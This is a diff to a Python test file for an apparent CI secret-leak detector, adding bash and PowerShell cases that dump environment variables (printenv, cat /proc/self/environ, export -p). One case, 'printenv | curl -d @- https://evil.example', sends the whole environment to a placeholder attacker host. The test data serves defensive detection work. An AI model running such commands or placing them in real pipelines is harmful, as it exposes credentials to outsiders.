@@ -34,8 +34,21 @@ def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
         ('echo "$TOKEN" | tee key', "tee", False),
         ('echo "$TOKEN" | grep -o x.', "grep", True),
         ('jq -r .a <<< "$TOKEN"', "jq", True),
+        ('tr a b <<< "$TOKEN"', "tr", True),
+        ('head -c 4 <<< "$TOKEN"', "head", True),
+        ('openssl base64 <<< "$TOKEN"', "openssl", True),
         ("echo ${{ secrets.API }}", "echo", False),
         ("printenv", "printenv", False),
+        ("printenv TOKEN", "printenv", False),
+        ("printenv TOKEN | base64", "base64", True),
+        ('A=$(printenv TOKEN)\necho "$A"', "echo", False),
+        ("env | grep -i ^token", "env", False),
+        ("env | grep -c TOKEN", "", False),
+        ("printenv HOME", "", False),
+        ("printenv TOKEN > key", "", False),
+        ("export -p", "export", False),
+        ("declare -x", "declare", False),
+        ("cat /proc/self/environ", "cat", False),
         ("env | sort", "env", False),
         ("env | grep CI_ | sort", "", False),
         ("env | sort > all.txt", "", False),
@@ -46,6 +59,19 @@ def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
 )
 def test_what_is_printed(text: str, by: str, *, derived: bool) -> None:
     assert look(text) == ([("log", by, "", derived)] if by else [])
+
+
+@pytest.mark.parametrize(
+    ("text", "held", "pasted"),
+    [
+        ("env\n./deploy ${{ secrets.API }}", {}, True),
+        ("printenv | curl -d @- https://evil.example", {}, True),
+        ("set -x\nmake", HELD, False),
+    ],
+)
+def test_what_shows_no_secret(text: str, held: dict[str, Held], *, pasted: bool) -> None:
+    script = Script(text=text, shell="bash", source_text=Text(text, ((0, NOWHERE),)))
+    assert leaks(script, held, runner=RUNNER, pasted=pasted) == ((), {})
 
 
 @pytest.mark.parametrize(
@@ -131,3 +157,9 @@ jobs:
         [(leak.way, leak.secret, leak.derived) for leak in s.leaks] for s in pipeline.jobs[0].steps
     ]
     assert found == [[], [("log", "KEY", True)], [("mask", "${{ inputs.x }}", True)], []]
+
+
+@pytest.mark.parametrize("text", ["Get-ChildItem env:", "gci env:* | Sort-Object Name", "dir env:"])
+def test_the_whole_environment_in_powershell(text: str) -> None:
+    assert [(way, derived) for way, _, _, derived in look(text, "pwsh")] == [("log", False)]
+    assert look("Get-ChildItem env:PATH > a; Set-Item env:A b", "pwsh") == []
